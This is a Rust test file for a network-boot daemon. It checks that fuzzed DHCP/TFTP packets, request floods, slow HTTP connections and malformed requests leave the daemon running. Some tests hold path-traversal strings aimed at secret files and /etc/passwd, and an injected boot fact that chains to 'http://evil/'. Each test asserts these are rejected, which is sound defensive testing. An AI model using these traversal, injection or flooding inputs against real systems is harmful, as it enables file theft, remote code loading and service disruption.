//! Everything wrong at once: the daemon goes on, and other machines notice nothing.

use std::io::Write;
use std::net::{TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use crate::harness::{Daemon, Site};

fn still_boots(daemon: &Daemon) {
    let report = daemon.boot(&["--mac", "52:54:00:00:00:01"]);
    assert_eq!(report["ending"], "booted", "{report:#}");
}

/// Numbers that are the same in every run.
fn noise(seed: u32) -> impl Iterator<Item = u8> {
    let mut state = seed;
    std::iter::repeat_with(move || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state.to_be_bytes()[0]
    })
}

#[test]
fn random_and_truncated_packets_are_dropped() {
    let site = Site::new();
    let daemon = site.serve();
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    for service in ["dhcp", "boot_server", "tftp"] {
        let to = ("127.0.0.1", daemon.port(service));
        for round in 1..500_u32 {
            let packet: Vec<u8> = noise(round).take((round * 3) as usize % 1400).collect();
            socket.send_to(&packet, to).unwrap();
            // A header that is right, and options that are not.
            let mut packet = vec![1, 1, (round % 256) as u8, 0];
            packet.resize(236, 0);
            packet.extend([0x63, 0x82, 0x53, 0x63]);
            packet.extend(noise(round).take(300));
            socket.send_to(&packet, to).unwrap();
        }
    }
    still_boots(&daemon);
    let metrics = daemon.get("/metrics");
    assert!(metrics.contains("pointsman_dhcp_packets_total"), "{metrics}");
}

#[test]
fn ten_thousand_requests_at_once_leave_room_for_others() {
    let site = Site::new();
    let daemon = site.serve();
    let to = ("127.0.0.1", daemon.port("tftp"));
    let sockets: Vec<_> = (0..50).map(|_| UdpSocket::bind("127.0.0.1:0").unwrap()).collect();
    for round in 0..200 {
        for (number, socket) in sockets.iter().enumerate() {
            let request = format!("\0\x01b/{number}-{round}/snponly.efi\0octet\0blksize\01468\0");
            let _ = socket.send_to(request.as_bytes(), to);
        }
    }
    still_boots(&daemon);
}

#[test]
fn slow_heads_and_silent_connections_hold_up_nobody() {
    let site = Site::new();
    let daemon = site.serve();
    let connections: Vec<_> = (0..200)
        .map(|number| {
            let port = daemon.port(if number % 2 == 0 { "http" } else { "https" });
            let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
            let _ = stream.write_all(b"GET / HTTP/1.1\r\nX-Slow: ");
            stream
        })
        .collect();
    still_boots(&daemon);
    drop(connections);
}

#[test]
fn paths_that_lead_out_open_nothing() {
    let site = Site::new();
    site.write("secret.txt", "the secret");
    let daemon = site.serve();
    let report = daemon.boot(&["--mac", "52:54:00:00:00:01"]);
    let script = report["script"].as_str().unwrap();
    let at = script.find("/b/").unwrap();
    let base: String = script[at..].split("f/debian").next().unwrap().to_owned();
    for path in [
        "f/../../secret.txt",
        "f/%2e%2e/%2e%2e/secret.txt",
        "f/..%2f..%2fsecret.txt",
        "f/..\\..\\secret.txt",
        "f//etc/passwd",
        "../secret.txt",
        "f/%00",
        "f/debian/linux/../../../../secret.txt",
    ] {
        let response = daemon.get(&format!("{base}{path}"));
        assert!(!response.starts_with("HTTP/1.1 200") && !response.contains("the secret"), "{path}: {response:.200}");
    }
    for path in ["/b/forged/f/debian/linux", "/debian/linux", "/b/", "//", "/b/%ff/%ff"] {
        let response = daemon.get(path);
        assert!(response.starts_with("HTTP/1.1 4"), "{path}: {response:.200}");
    }
    let other = base.replacen(&base[3..4], if &base[3..4] == "1" { "2" } else { "1" }, 1);
    assert!(daemon.get(&format!("{other}f/debian/linux")).starts_with("HTTP/1.1 404"));
}

#[test]
fn garbage_by_http_is_answered_or_closed() {
    let site = Site::new();
    let daemon = site.serve();
    let huge = format!("GET / HTTP/1.1\r\nHost: x\r\nX: {}\r\n\r\n", "a".repeat(1_000_000));
    for request in [
        "\0\0\0\0\r\n\r\n",
        "GET\r\n\r\n",
        "GET / HTTP/9.9\r\n\r\n",
        "POST /b/x/script.ipxe HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n",
    ] {
        let response = daemon.http(request);
        assert!(response.is_empty() || response.starts_with("HTTP/1.1 4"), "{request:?}: {response}");
    }
    let mut stream = TcpStream::connect(("127.0.0.1", daemon.port("http"))).unwrap();
    // The server may close before all of it is sent.
    let _ = stream.write_all(huge.as_bytes());
    still_boots(&daemon);
}

#[test]
fn an_endless_script_delays_nobody_else() {
    let site = Site::with_rules(
        "fn allow_boot(request) { if request.mac.starts_with(\"66\") { loop { } } allow() }\n\
         fn boot_images(request) { local_disk() }",
    );
    let daemon = site.serve();
    let ports = daemon.port("dhcp");
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    for last in 0..40_u8 {
        socket.send_to(&discover([0x66, 0, 0, 0, 0, last]), ("127.0.0.1", ports)).unwrap();
    }
    let started = Instant::now();
    let report = daemon.boot(&["--ipxe-rom", "--mac", "52:54:00:00:02:01"]);
    assert!(report["ending"]["exit"].is_number(), "{report:#}");
    // 40 endless scripts share two processors with this boot: it is slower, but it does not wait for them to end.
    assert!(started.elapsed() < Duration::from_secs(4), "{:?}", started.elapsed());
    let line = daemon.wait_for_log(|line| line["message"] == "handler failed");
    assert!(line["error"].as_str().unwrap().contains("allow_boot.rhai:1:"), "{line}");
}

#[test]
fn a_hostile_machine_s_facts_stay_text() {
    let site = Site::with_rules(
        "fn allow_boot(request) { allow() }\n\
         fn boot_images(request) { menu(#{ title: request.product, images: [local_disk(), reboot()] }) }",
    );
    let daemon = site.serve();
    let report = daemon.boot(&["--ipxe-rom", "--fact", "product=x\n:local\nchain http://evil/ || ; && # ${net0/mac"]);
    let script = report["script"].as_str().unwrap();
    assert!(!script.lines().any(|line| line.starts_with("chain http://evil")), "{script}");
    assert!(!script.contains("${net0"), "{script}");
    assert!(
        report["screen"].to_string().contains("menu: x :local chain http://evil/ || ; && # $ {net0/mac"),
        "{report:#}"
    );
}

/// A DISCOVER of a BIOS machine behind a relay on loopback.
fn discover(mac: [u8; 6]) -> Vec<u8> {
    let mut packet = vec![1, 1, 6, 1, 0, 0, 0, mac[5]];
    packet.resize(24, 0);
    packet.extend([127, 0, 0, 1]);
    packet.extend(mac);
    packet.resize(236, 0);
    packet.extend([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 93, 2, 0, 0, 60, 9]);
    packet.extend(b"PXEClient\xff");
    packet
}
